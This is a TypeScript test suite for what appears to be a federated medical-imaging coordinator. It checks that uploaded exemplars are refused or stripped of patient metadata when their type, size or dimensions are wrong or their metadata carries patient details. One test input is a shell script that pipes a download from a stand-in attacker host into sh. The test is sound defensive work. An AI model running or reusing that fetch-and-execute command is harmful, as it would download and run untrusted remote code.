import { strict as assert } from "node:assert";
import { createHash, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { after, before, describe, it } from "node:test";
import sharp from "sharp";
import { call, createSiteClient, pushExemplars } from "../../site-agent/client.js";
import { createAdminClient, type AdminClient } from "../../services/transport/index.js";
import { imageMetadataCarriers, sanitizeImage } from "../../services/privacy/index.js";
import type { RunningCoordinator } from "../../coordinator/index.js";
import * as store from "../../coordinator/store/index.js";
import type { SiteServiceClient } from "../../generated/medfcl/v1/SiteService.js";
import type { NextTaskResponse__Output } from "../../generated/medfcl/v1/NextTaskResponse.js";
import type { ExemplarInfo } from "../../generated/medfcl/v1/ExemplarInfo.js";
import { startTestCoordinator, testManifest } from "../helpers/federation.js";

const sha = (b: Buffer): string => createHash("sha256").update(b).digest("hex");

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(b: Buffer): number {
  let c = 0xffffffff;
  for (const x of b) c = CRC_TABLE[(c ^ x) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A PNG chunk with a correct CRC, as a filter-less site would leave it. */
function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A valid PNG whose tEXt chunks carry PHI, inserted right after IHDR. */
async function pngWithPhi(): Promise<Buffer> {
  const png = await sharp({ create: { width: 32, height: 24, channels: 3, background: { r: 120, g: 60, b: 30 } } }).png().toBuffer();
  const ihdrEnd = 8 + 12 + png.readUInt32BE(8);
  const text = (k: string, v: string): Buffer => pngChunk("tEXt", Buffer.from(`${k}\0${v}`, "latin1"));
  return Buffer.concat([png.subarray(0, ihdrEnd), text("PatientName", "DOE^JANE"), text("MRN", "MRN-00424242"), text("DOB", "19580314"), png.subarray(ihdrEnd)]);
}

function infoFor(bytes: Buffer, siteId: string, mime: string, width: number, height: number): ExemplarInfo {
  const id = sha(bytes);
  return {
    exemplar_id: id,
    mime,
    width,
    height,
    boxes: [{ x: 1, y: 1, width: 4, height: 4, category_id: 1 }],
    domain: "dom-site-x",
    categories: [{ id: 1, name: "polyp", prompt: { prefix: "", name: "polyp", suffix: "" } }],
    provenance: { content_sha256: id, source_hmac: "h", site_id: siteId, stages: [{ name: "metadata-strip", version: "1", removed: [] }], exported_at: new Date().toISOString() },
    size: bytes.length,
    score: 0,
  };
}

describe("coordinator - exemplar validation", () => {
  let coord: RunningCoordinator;
  let admin: AdminClient;
  let client: SiteServiceClient;
  const siteId = "site-x";
  let taskId = "";

  before(async () => {
    coord = await startTestCoordinator({ evalSets: { "dom-site-x": "/unused" } });
    admin = createAdminClient(coord.address, { insecure: true });
    client = createSiteClient({ address: coord.address, insecure: true });
    const reg = await call<object, { session_id: string }>(client.Register.bind(client), { site_id: siteId, agent_version: "t", manifest: testManifest("dom-site-x"), backend: "wasm" });
    await admin.createRun({ model: "nano", name: "exemplars", strategy: "sequential", sites: [siteId], seed: 1 });
    for (;;) {
      const res = await call<object, NextTaskResponse__Output>(client.NextTask.bind(client), { site_id: siteId, session_id: reg.session_id, wait_ms: 5000 });
      if (res.task) {
        taskId = res.task.task_id;
        break;
      }
    }
  });

  after(async () => {
    client.close();
    admin.close();
    await coord.close();
  });

  it("coordinator - a shell script, 50 MB of random bytes and a PNG with PHI text chunks are refused or cleaned", async () => {
    const script = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n");
    const noise = randomBytes(50 * 1024 * 1024);
    const phi = await pngWithPhi();
    const jpegExif = await sharp({ create: { width: 20, height: 10, channels: 3, background: "#808080" } }).jpeg().withMetadata({ exif: { IFD0: { Artist: "DOE^JANE", ImageDescription: "MRN-00424242" } } }).toBuffer();
    const items = [
      { info: infoFor(script, siteId, "image/png", 8, 8), bytes: script },
      { info: infoFor(noise, siteId, "image/png", 8, 8), bytes: noise },
      { info: infoFor(phi, siteId, "image/png", 32, 24), bytes: phi },
      { info: infoFor(jpegExif, siteId, "image/jpeg", 20, 10), bytes: jpegExif },
    ];
    const res = await pushExemplars(client, siteId, taskId, items);
    const reasons = new Map(res.rejected.map((r) => [r.exemplar_id, r.reason]));
    assert.match(reasons.get(sha(script)) ?? "", /not a PNG or JPEG/);
    assert.match(reasons.get(sha(noise)) ?? "", /over the limit of 8388608 bytes/);
    assert.deepEqual(new Set(res.accepted_ids), new Set([sha(phi), sha(jpegExif)]), "the images are kept, cleaned");

    const rows = (coord.ctx.db.prepare("SELECT exemplar_id FROM exemplars").all() as { exemplar_id: string }[]).map((r) => store.getExemplar(coord.ctx.db, r.exemplar_id)!);
    assert.equal(rows.length, 2);
    for (const row of rows) {
      assert.notEqual(row.exemplarId, sha(phi), "the PHI-carrying bytes are not what is stored");
      const stored = coord.ctx.blobs.get(row.exemplarId);
      assert.deepEqual(imageMetadataCarriers(stored), [], `stored ${row.mime} carries no metadata`);
      const stage = row.provenance.stages.at(-1)!;
      assert.equal(stage.name, "coordinator-sanitize");
      if (row.mime === "image/png") assert.deepEqual(stage.removed, ["png:tEXt(PatientName)", "png:tEXt(MRN)", "png:tEXt(DOB)", "png:pHYs"], "keys only: no value is recorded");
      else assert.ok(stage.removed.includes("jpeg:APP1(Exif)"), stage.removed.join());
    }
    // Nothing of the refused or the raw bytes reached the blob store.
    for (const blob of coord.ctx.blobs.list()) {
      const bytes = readFileSync(coord.ctx.blobs.pathOf(blob));
      for (const needle of ["PatientName", "DOE^JANE", "MRN-00424242", "19580314", "evil.example"]) assert.equal(bytes.includes(needle), false, `${blob} holds ${needle}`);
    }
    assert.equal(coord.ctx.blobs.has(sha(noise)), false);
    assert.equal(coord.ctx.blobs.has(sha(script)), false);
    const notes = (coord.ctx.db.prepare("SELECT note FROM notes WHERE site_id = ?").all(siteId) as { note: string }[]).map((n) => n.note);
    assert.equal(notes.filter((n) => n.startsWith("exemplar refused:")).length, 2, "refusals are in the audit notes");
    const refusedEvents = coord.ctx.db.prepare("SELECT subject FROM events WHERE type = 'exemplar.refused'").all() as { subject: string }[];
    assert.deepEqual(refusedEvents.map((e) => e.subject), [`medfcl.site.${siteId}.exemplar.refused`, `medfcl.site.${siteId}.exemplar.refused`], "and on the event stream");
    assert.ok(notes.some((n) => n.startsWith("exemplar cleaned:") && n.includes("png:tEXt(PatientName)")));
  });

  it("coordinator - an exemplar whose declared mime, size or dimensions lie is refused", async () => {
    const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#336699" } }).png().toBuffer();
    const jpeg = await sharp(png).jpeg().toBuffer();
    const truncated = png.subarray(0, png.length - 30);
    const items = [
      { info: infoFor(jpeg, siteId, "image/png", 16, 16), bytes: jpeg },
      { info: infoFor(png, siteId, "image/png", 17, 16), bytes: png },
      { info: infoFor(truncated, siteId, "image/png", 16, 16), bytes: truncated },
    ];
    const res = await pushExemplars(client, siteId, taskId, items);
    assert.deepEqual(res.accepted_ids, []);
    const reasons = res.rejected.map((r) => r.reason);
    assert.match(reasons[0], /declared mime image\/png but the bytes are image\/jpeg/);
    assert.match(reasons[1], /16×16 but the info says 17×16/);
    assert.match(reasons[2], /not a decodable png/);
  });

  it("privacy - sanitizeImage refuses an image over the pixel limit from its header alone", async () => {
    const big = await sharp({ create: { width: 5000, height: 10, channels: 3, background: "#000" } }).png().toBuffer();
    await assert.rejects(sanitizeImage(big), /5000×10, a side over the limit of 4096/);
    await assert.rejects(sanitizeImage(big, { maxBytes: 1 << 20, maxPixels: 1000, maxSide: 10_000, formats: ["png"] }), /over the limit of 1000/);
    const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#000" } }).jpeg().toBuffer();
    await assert.rejects(sanitizeImage(jpeg, { maxBytes: 1 << 20, maxPixels: 1000, maxSide: 100, formats: ["png"] }), /format jpeg is not allowed/);
  });
});
